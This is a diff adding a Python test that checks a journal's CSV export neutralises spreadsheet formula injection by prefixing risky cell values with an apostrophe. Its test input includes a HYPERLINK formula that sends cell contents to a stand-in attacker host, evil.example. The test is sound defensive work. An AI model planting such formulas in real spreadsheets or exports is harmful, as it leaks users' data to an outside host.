@@ -124,6 +124,19 @@ def test_files_hold_the_same_for_programs(station: Store, tmp_path: Path) -> Non
     assert read[0]["broken"] == ["beyond_plan", "too_large"]
 
 
+def test_no_text_of_the_journal_is_a_formula_in_a_spreadsheet(station: Store, tmp_path: Path) -> None:
+    for thread, text in ((LOST.thread, '=HYPERLINK("http://evil.example/"&A1)'), (ASIDE.thread, "-2 R, and late")):
+        station.decisions.add(thread, "note", text=text)
+    assert run(station, "journal", "--out", tmp_path / "out.csv").code == 0
+    table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"), newline="")))
+    assert [row["notes"] for row in table] == [
+        "well held",
+        '\'=HYPERLINK("http://evil.example/"&A1)',
+        "'-2 R, and late",
+    ]
+    assert table[1]["r"] == "-1.00"  # a number stays one
+
+
 class Page(HTMLParser):
     """Takes a page apart: its tags, what they point to, and its text."""
 
